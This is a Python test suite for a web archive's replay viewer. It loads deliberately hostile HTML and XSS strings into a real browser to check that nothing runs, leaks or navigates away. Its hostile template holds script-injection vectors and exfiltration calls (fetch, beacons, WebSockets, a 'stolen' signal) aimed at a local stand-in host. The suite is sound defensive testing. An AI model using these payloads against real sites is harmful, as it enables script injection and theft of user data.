"""Hostile pages and words, in a real browser: nothing of them runs, reads, leaves or leads away."""

from __future__ import annotations

import json
import os
import socket
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from urllib.parse import quote

import pytest

from archive.catalog.ids import article_id
from tests.archive.room.shelf import Room, Shelf, serving

SHARED = os.environ.get("WARRAQ_SHARED")
URL = "https://news.example/hostile"
AT = "20261103100000"
ROWS_MAX = 200
"""Of the hostile words that others have collected, in each run."""

pytestmark = pytest.mark.slow


class Ear:
    """A socket on this machine that counts who connects to it."""

    def __init__(self) -> None:
        self._socket = socket.create_server(("127.0.0.1", 0))
        self.port = self._socket.getsockname()[1]
        self.heard: list[bytes] = []
        threading.Thread(target=self._listen, daemon=True).start()

    def _listen(self) -> None:
        while True:
            try:
                connection, _ = self._socket.accept()
            except OSError:
                return
            connection.settimeout(0.3)
            try:
                self.heard.append(connection.recv(500))
            except OSError:
                self.heard.append(b"")
            connection.close()

    def close(self) -> None:
        self._socket.close()


@pytest.fixture
def ear() -> Iterator[Ear]:
    made = Ear()
    yield made
    made.close()


@pytest.fixture
def page(browser) -> Iterator[Any]:
    """A page that is not watched, for what is seen of it here is nothing of the room's."""
    context = browser.new_context()
    yield context.new_page()
    context.close()


HOSTILE = """<!doctype html><html manifest="{evil}"><head>
<base href="{evil}/base/">
<meta http-equiv="refresh" content="1; url={evil}/refreshed">
<meta http-equiv="x-dns-prefetch-control" content="on">
<link rel="preconnect" href="{evil}"><link rel="dns-prefetch" href="{evil}"><link rel="prefetch" href="{evil}/p">
<link rel="preload" as="image" href="{evil}/pre.png"><link rel="modulepreload" href="{evil}/m.js"><link rel="prerender" href="{evil}/r">
<link rel="stylesheet" href="{evil}/s.css"><link rel="icon" href="{evil}/i.png"><link rel="manifest" href="{evil}/m.json">
<style>@import "{evil}/i.css"; @font-face {{ font-family: f; src: url({evil}/f.woff2) }} body {{ font-family: f; background: url({evil}/b.png) }}</style>
<script src="{evil}/x.js"></script>
<script>
window.ran = true; document.title = "ran";
try {{ document.title += parent.localStorage.length }} catch (error) {{}}
fetch("{evil}/fetched").catch(() => 0); new Image().src = "{evil}/pixel"; navigator.sendBeacon("{evil}/beacon", "x");
try {{ new WebSocket("{socket}") }} catch (error) {{}}
try {{ top.location = "{evil}/top" }} catch (error) {{}}
try {{ window.open("{evil}/popup") }} catch (error) {{}}
fetch("{room}/").then((answer) => answer.text()).then((text) => new Image().src = "{evil}/stolen");
</script></head>
<body onload="location='{evil}/onload'" background="{evil}/bg.png">
<p id="shown">المتن</p>
<a id="link" href="{evil}/linked" target="_top" ping="{evil}/ping">رابط</a>
<a id="script" href="javascript:top.location='{evil}/clicked'">رابط</a>
<img src="{evil}/a.png" srcset="{evil}/b.png 2x" onerror="location='{evil}/onerror'">
<iframe src="{evil}/frame"></iframe><iframe srcdoc="<link rel=preconnect href='{evil}'><script>top.location='{evil}/srcdoc'</script>"></iframe>
<iframe src="javascript:top.location='{evil}/js'"></iframe><iframe src="data:text/html,<script>top.location='{evil}/data'</script>"></iframe>
<object data="{evil}/o"></object><embed src="{evil}/e"><video src="{evil}/v" poster="{evil}/vp" autoplay></video><audio src="{evil}/au" autoplay></audio>
<svg><style><p><link rel=preconnect href={evil}></style><image href="{evil}/svg.png"/><use href="{evil}/u.svg#x"/><script>top.location='{evil}/svg'</script></svg>
<svg><set attributeName="onmouseover" to="location='{evil}/set'"/><foreignObject><link rel=preconnect href="{evil}"></foreignObject></svg>
<math><mtext><table><mglyph><style><!--</style><link rel=preconnect href="{evil}">--></mglyph></table></mtext></math>
<noscript><p title="</noscript><link rel=preconnect href={evil}>"></noscript>
<!--><link rel=preconnect href="{evil}">--><![CDATA[><link rel=preconnect href="{evil}">]]>
<form id="f" action="{evil}/form"><input name="a" autofocus onfocus="this.form.submit()"></form>
<div><template shadowrootmode="open"><link rel=preconnect href="{evil}"></template></div>
</body></html>"""


def hostile(shelf: Shelf, room: Room, ear: Ear, *head: str) -> None:
    evil = f"http://127.0.0.1:{ear.port}"
    markup = HOSTILE.format(evil=evil, socket=evil.replace("http", "ws"), room=room.room)
    shelf.put(
        URL,
        markup,
        *(head or ("Content-Type: text/html; charset=utf-8",)),
        f"Link: <{evil}>; rel=preconnect",
        f"Refresh: 0; url={evil}/r",
    )


def watch(page: Any) -> list[str]:
    """Note whatever dialogs, errors and windows there are."""
    seen: list[str] = []
    page.on("dialog", lambda dialog: (seen.append(f"dialog {dialog.message}"), dialog.dismiss()))
    page.context.on("page", lambda opened: seen.append(f"window {opened.url}") if opened != page else None)
    return seen


def test_ear_hears(page, ear):
    """What the others do not hear could be heard."""
    page.goto("about:blank")
    page.set_content(f"<link rel=preconnect href='http://127.0.0.1:{ear.port}'><img src='http://127.0.0.1:{ear.port}/x'>")
    page.wait_for_timeout(800)
    assert ear.heard
    ear.heard.clear()


@pytest.mark.parametrize("inside", ["in the room's frame", "by itself"])
def test_hostile_page_neither_acts_nor_leaves(shelf, room, page, ear, inside):
    hostile(shelf, room, ear)
    seen = watch(page)
    page.goto(room.room + "/")
    page.evaluate("localStorage.setItem('secret', 'canary')")
    page.goto(f"{room.room}/looked/{AT}/{URL}" if inside.startswith("in") else f"{room.replay}/web/{AT}/{URL}")
    address = page.url
    frame = next(frame for frame in page.frames if frame.url.startswith(f"{room.replay}/web/{AT}/{URL}"))
    assert frame.locator("#shown").inner_text() == "المتن"
    page.wait_for_timeout(2_000)
    assert (page.url, ear.heard, seen) == (address, [], [])
    assert "ran" not in page.title()
    assert frame.evaluate("window.origin") == "null"
    for name in ("link", "script"):
        frame.locator(f"#{name}").click(no_wait_after=True)
        page.wait_for_timeout(400)
        assert (page.url.startswith((room.room, room.replay)), ear.heard, seen) == (True, [], [])
        if name == "link":
            assert frame.url == f"{room.replay}/web/{AT}/http://127.0.0.1:{ear.port}/linked"
            page.goto(address)
            frame = next(frame for frame in page.frames if frame.url.startswith(f"{room.replay}/web/{AT}/{URL}"))


@pytest.mark.parametrize("mime", ["application/xhtml+xml", "application/xml", "image/svg+xml", "text/plain", "application/pdf"])
def test_hostile_page_under_another_name_does_not_act(shelf, room, page, ear, mime):
    hostile(shelf, room, ear, f"Content-Type: {mime}")
    seen = watch(page)
    page.goto(f"{room.room}/looked/{AT}/{URL}")
    page.wait_for_timeout(800)
    assert (ear.heard, seen) == ([], [])


def test_policy_alone_holds_a_page_that_is_not_rewritten(shelf, room, page, ear):
    """The second lock: were the rewriting broken, scripts would still not run, and not a word would be sent.

    Browsers may knock where they then may not ask, which no policy keeps them from: the rewriting does.
    """
    evil = f"http://127.0.0.1:{ear.port}"
    shelf.put(URL, PLAIN.format(evil=evil))
    policy = room.get(f"/web/{AT}/{URL}").headers["content-security-policy"]
    page.route(
        "**/held",
        lambda route: route.fulfill(
            body=PLAIN.format(evil=evil), headers={"Content-Type": "text/html", "Content-Security-Policy": policy}
        ),
    )
    page.goto(f"{room.replay}/held")
    page.wait_for_timeout(800)
    assert ("ran" in page.title(), [said for said in ear.heard if said]) == (False, [])


PLAIN = """<title>still</title><link rel=stylesheet href={evil}/s.css><img src={evil}/i.png><iframe src={evil}/f></iframe>
<script>document.title = "ran"; new Image().src = "{evil}/x"; fetch("{evil}/y")</script><form action={evil}/z id=f></form>
<video src={evil}/v></video><style>p {{ background: url({evil}/b) }}</style><p>x</p>"""


def test_page_finds_its_pictures_styles_and_faces_in_the_archive(shelf, room, page):
    base = "https://news.example"
    dot = "<svg xmlns='http://www.w3.org/2000/svg' width='7' height='9'/>"
    shelf.put(f"{base}/p", "<link rel=stylesheet href=/s.css><img id=i src=/i.svg><p id=p>نص</p><iframe src=/f></iframe>")
    shelf.put(f"{base}/f", "<p id=framed>في إطار</p>")
    shelf.put(f"{base}/s.css", "@import 'more.css'; p { color: rgb(1, 2, 3) }", "Content-Type: text/css")
    shelf.put(
        f"{base}/more.css",
        "@font-face { font-family: f; src: url(f.woff2) } p { font-family: f; width: 77px }",
        "Content-Type: text/css",
    )
    shelf.put(f"{base}/i.svg", dot, "Content-Type: image/svg+xml")
    face = Path(__file__).parents[4] / "archive/room/static/vendor/noto-naskh-arabic/arabic.woff2"
    shelf.put(f"{base}/f.woff2", face.read_bytes(), "Content-Type: font/woff2")
    failed = []
    page.on("requestfailed", lambda request: failed.append(request.url))
    page.goto(f"{room.room}/looked/{AT}/{base}/p")
    frame = page.frames[1]
    frame.wait_for_load_state("networkidle")
    styled = frame.evaluate("(({color, width}) => [color, width])(getComputedStyle(document.getElementById('p')))")
    assert styled == ["rgb(1, 2, 3)", "77px"]
    assert frame.evaluate("document.getElementById('i').naturalWidth") == 7
    assert frame.evaluate("document.fonts.check('16px f', 'نص')")
    assert frame.frame_locator("iframe").locator("#framed").inner_text() == "في إطار"
    assert failed == []


def hostile_words() -> list[str]:
    """Return words that would run, where they were taken for markup."""
    own = [
        '<script>document.title="ran"</script>',
        '"><img src=x onerror="document.title=\'ran\'">',
        "'-alert(1)-'",
        "javascript:alert(1)",
        "{{ 7 * 7 }}{% raw %}",
        "</title><svg onload=alert(1)>",
        "\u202eمعكوس\u202c<b>",
        "</bdi></main><script>alert(1)</script>",
    ]
    if not SHARED:
        return own
    rows = [
        line
        for path in sorted(Path(SHARED, "torture/xss/cases").glob("*.jsonl"))
        for line in path.read_text("utf-8").splitlines()
    ]
    step = max(len(rows) // ROWS_MAX, 1)
    return own + [json.loads(row)["payload"] for row in rows[::step]][:ROWS_MAX]


@pytest.mark.parametrize(("policy", "count"), [("with the policy", 20), ("without it", ROWS_MAX)])
def test_hostile_words_are_words(shelf, browser, policy, count):
    """In headline, byline, body, agency, outlet, place and address; and escaping holds with the policy header off."""
    words = [word.replace("\0", "") for word in hostile_words() if word.strip()][:count]
    ids = []
    for number, word in enumerate(words):
        fetch = shelf.put(f"https://news.example/{number}/{quote(word)[:900]}", "<p>x</p>", minutes=number)
        fields = {"headline": word, "alternative_headline": word, "author": (word,), "publisher": word, "dateline": word}
        kept = shelf.tell(fetch, f"{word}\n{word}", source_organization=word, article_section=word, in_language=word, **fields)
        ids.append(kept.article.url)
    context = browser.new_context(bypass_csp=policy.startswith("without"))
    page = context.new_page()
    seen = watch(page)

    with serving(shelf.home) as room:
        for path in ("/", "/en/", *(f"/story/{article_id(url)}" for url in ids)):
            page.goto(room.room + path, wait_until="domcontentloaded")
            assert "ran" not in page.evaluate("document.title.slice(0, 3)")
            assert (
                page.evaluate(
                    "document.querySelectorAll('body script, img, svg:not([viewBox]), iframe, [onerror], [onload], main style').length"
                )
                == 0
            )
        for word in words[:20]:
            page.goto(f"{room.room}/looked/2026/{quote(word)}", wait_until="domcontentloaded")
    page.wait_for_timeout(300)
    context.close()
    assert seen == []


def test_replayweb_page_shows_the_text_of_a_story_s_package(shelf, browser, ear):
    fetch = shelf.put(
        URL,
        f"<p id=text>وصلت القافلة</p><script>new Image().src='http://127.0.0.1:{ear.port}/x'; document.title='ran'</script>",
    )
    kept = shelf.tell(fetch)

    context = browser.new_context()
    page = context.new_page()
    asked: list[str] = []
    context.on("request", lambda request: asked.append(request.url))
    with serving(shelf.home) as room:
        page.goto(f"{room.room}/story/{article_id(kept.article.url)}")
        page.click("a[href*='/package/']")
        shown = page.frame_locator("iframe").frame_locator("iframe").locator("#text")
        shown.wait_for(timeout=30_000)
        assert shown.inner_text() == "وصلت القافلة"
        page.wait_for_timeout(500)
        outside = [url for url in asked if not url.startswith((room.room, room.replay, "blob:", "data:"))]
    context.close()
    assert (outside, ear.heard) == ([], [])
